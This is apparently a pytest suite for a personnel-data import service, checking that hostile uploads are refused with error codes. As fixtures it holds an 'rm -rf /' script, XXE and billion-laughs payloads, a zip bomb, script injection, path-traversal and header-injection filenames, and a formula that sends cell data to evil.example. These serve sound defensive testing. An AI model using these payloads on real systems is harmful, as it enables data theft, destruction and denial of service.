"""Files that somebody made to do harm: told by their content, refused with a code, never kept."""

import io
import time
import zipfile
from datetime import date

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from app.core import office_files as archive
from app.core.file_content import ENCRYPTED, OLE, Unreadable, plain_name
from app.core.identity import Role
from app.imports import csv_reading, reading, staging
from app.imports.codes import FILE_CODES
from app.imports.rejects import written
from tests.imports.world import BUDI, UNITS, as_csv, sent

WORKBOOK = b'<?xml version="1.0" encoding="UTF-8"?><workbook/>'
SHEET = "xl/worksheets/sheet1.xml"


def zipped(**members: bytes) -> bytes:
    return packed({"xl/workbook.xml": WORKBOOK, **members})


def packed(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return out.getvalue()


def a_workbook(*rows: list[str]) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        for n, row in enumerate(rows):
            for m, cell in enumerate(row):
                sheet.write_string(n, m, cell)
    return out.getvalue()


def with_member(content: bytes, name: str, member: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, member)
    return out.getvalue()


def locked(content: bytes) -> bytes:
    """The archive with the flag of encryption on every entry of its directory."""
    changed, at = bytearray(content), -1
    while (at := content.find(archive.ENTRY, at + 1)) >= 0:
        changed[at + 8] |= 1
    return bytes(changed)


SOUND = a_workbook(["nip", "nama"], [BUDI, "Budi Contoh"])
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><worksheet>&lol2;</worksheet>'
)
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<sst><si><t>&xxe;</t></si></sst>"
)
HOSTILE = {
    "a Windows program as CSV": (b"MZ\x90\x00\x03", "file-executable"),
    "a Linux program as CSV": (b"\x7fELF\x02\x01", "file-executable"),
    "a shell script as CSV": (b"#!/bin/sh\nrm -rf /\n", "file-executable"),
    "a web page as CSV": (
        b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>",
        "file-markup",
    ),
    "a table of HTML as XLS": (b"<table><tr><td>nip</td></tr></table>", "file-markup"),
    "XML with an entity as JSON": (OUTSIDE, "file-markup"),
    "a picture with a script in it": (b"<svg onload='alert(1)'/>", "file-markup"),
    "a PDF": (b"%PDF-1.7\n", "file-binary"),
    "a PNG": (b"\x89PNG\r\n\x1a\n", "file-binary"),
    "rich text": (b"{\\rtf1 halo}", "file-binary"),
    "a gzip file": (b"\x1f\x8b\x08\x00", "file-binary"),
    "a 7-Zip file": (b"7z\xbc\xaf\x27\x1c", "file-binary"),
    "an empty archive": (packed({})[:22], "file-binary"),
    "text with a NUL": (b"nip,nama\n1,\x00\n", "file-binary"),
    "an old spreadsheet": (OLE + b"\0" * 600, "file-old-excel"),
    "a spreadsheet with a password": (OLE + b"\0" * 600 + ENCRYPTED, "file-encrypted"),
    "an archive with a password": (locked(SOUND), "file-encrypted"),
    "macros": (with_member(SOUND, "xl/vbaProject.bin", b"x"), "file-macro"),
    "old macros": (with_member(SOUND, "xl/macrosheets/sheet1.xml", b"<x/>"), "file-macro"),
    "a control": (with_member(SOUND, "xl/activeX/activeX1.bin", b"x"), "file-macro"),
    "an archive in the archive": (with_member(SOUND, "xl/media/a.bin", SOUND), "file-nested"),
    "a document in the archive": (with_member(SOUND, "xl/embeddings/a.docx", b"x"), "file-nested"),
    "an old document in it": (with_member(SOUND, "xl/media/b", OLE), "file-nested"),
    "a thousand million laughs": (zipped(**{SHEET: LAUGHS}), "file-entities"),
    "an entity from outside": (zipped(**{"xl/sharedStrings.xml": OUTSIDE}), "file-entities"),
    "an entity in UTF-16": (
        zipped(**{SHEET: LAUGHS.decode().encode("utf-16")}),
        "file-not-xlsx",
    ),
    "a kilobyte that is a gigabyte": (
        zipped(**{SHEET: b"<c/>" * 10_000_000}),
        "file-bomb",
    ),
    "a document and no spreadsheet": (packed({"word/document.xml": b"<x/>"}), "file-not-xlsx"),
    "more columns than a table has": (b",".join(b"%d" % n for n in range(2_000)), "file-too-wide"),
}


@pytest.mark.parametrize(("content", "code"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_is_refused_with_a_code(content, code):
    with pytest.raises(Unreadable) as refused:
        list(reading.read(content).records)

    assert refused.value.code == code
    assert code in FILE_CODES


@pytest.mark.parametrize("name", ["pegawai.csv", "pegawai.xlsx", "pegawai.json"])
async def test_no_name_lets_a_hostile_file_in(client_for, name):
    client = client_for(Role.SIMPEG)
    contents = [content for content, code in HOSTILE.values() if code != "file-too-wide"]

    for content in contents:
        answer = await client.post("/v1/imports", files=sent({name: content}))
        assert answer.status_code == 422, content[:20]
        assert answer.json()["code"] == "files-unusable"

    assert (await client.get("/v1/imports")).json()["items"] == []


def test_a_sound_spreadsheet_is_let_in():
    (record,) = reading.read(SOUND).records

    assert list(record.cells) == [BUDI, "Budi Contoh"]


def test_a_bomb_hidden_between_two_pieces_is_seen():
    padding = b" " * (16 * archive.CHUNK - 4)

    with pytest.raises(Unreadable, match="file-entities"):
        archive.examine(zipped(**{SHEET: padding + b"<!DOCTYPE x>"}))


def test_the_ratio_is_no_matter_in_small_files_and_a_bomb_in_large(monkeypatch):
    blanks = b"<c/>" * 500_000

    archive.examine(zipped(**{SHEET: blanks}))
    monkeypatch.setattr(archive, "LENIENT", 1_000_000)
    with pytest.raises(Unreadable, match="file-bomb"):
        archive.examine(zipped(**{SHEET: blanks}))


def test_an_archive_of_many_members_is_refused_before_they_are_listed():
    crowd = packed({f"xl/{n}": b"" for n in range(archive.MAX_MEMBERS + 1)})

    began = time.perf_counter()
    with pytest.raises(Unreadable, match="file-bomb"):
        archive.examine(crowd)
    assert time.perf_counter() - began < 0.1


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_one_name_twice_could_be_read_as_either():
    double = with_member(SOUND, SHEET, b"<worksheet/>")

    with pytest.raises(Unreadable, match="file-not-xlsx"):
        archive.examine(double)


def test_a_row_without_an_end_costs_one_row(monkeypatch):
    monkeypatch.setattr(csv_reading, "LONGEST_ROW", 1_000)
    endless = 'nip,nama\n1,"Budi"\n' + '"a\n","b\n",' * 500 + "\n2,Dewi\n"

    records = list(reading.read(endless.encode()).records)

    assert list(records[0].cells) == ["1", "Budi"]
    assert records[1].broken is not None
    assert records[-1].cells[0] == "2"


def test_a_file_of_too_many_rows_is_refused(monkeypatch):
    monkeypatch.setattr(staging, "MAX_ROWS", 2)
    people = as_csv([{"nip_baru": str(n), "nama": "x"} for n in range(4)])

    parsed = staging.parse(people, "pegawai", 0, date(2026, 1, 1))

    assert parsed.code in {"file-too-long", "column-missing"}


@given(st.binary(max_size=300), st.sampled_from([b"", b"PK\x03\x04", OLE, b"<", b"{", b"["]))
def test_no_bytes_are_more_than_refused(content, start):
    refusal = reading.refusal(start + content)

    assert refusal is None or refusal.code in FILE_CODES


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("pegawai.csv", "pegawai.csv"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\pegawai.xlsx", "pegawai.xlsx"),
        ("pegawai\u202evsc.exe", "pegawaivsc.exe"),
        ("peg\x00awai\r\nSet-Cookie: a=b.csv", "pegawaiSet-Cookie: a=b.csv"),
        ("\u200bpegawai.csv ", "pegawai.csv"),
        ("x" * 500 + ".csv", "x" * 196 + ".csv"),
    ],
)
def test_a_files_name_shows_what_it_is(name, shown):
    assert plain_name(name) == shown


async def test_formulas_in_rejected_rows_are_text_and_come_back_as_they_were(importing, client_for):
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    bad = {"nip_baru": "12345", "nama": evil, "no_hp": "+628123", "tanggal_lahir": "01-01-1990"}
    done = await importing(
        {"ref_unor.json": UNITS, "pegawai.csv": as_csv([{**bad, "unor_id": "U1"}])}
    )

    answer = await client_for(Role.SIMPEG).get(f"/v1/imports/{done['id']}/rejected.csv")

    assert answer.status_code == 200
    for cell in answer.text.replace("\r\n", ",").split(","):
        assert cell.strip('"')[:1] not in set("=+-@\t")
    (record,) = reading.read(answer.content).records
    values = dict(zip(record.keys, record.cells, strict=True))
    assert (values["nama"], values["no_hp"]) == (evil, "+628123")


def test_headings_are_guarded_too():
    text = written([('{"=cmd":"1"}', "x")])

    assert text.startswith("'=cmd,")
    assert reading.read(text.encode()).header == ("=cmd", "code")
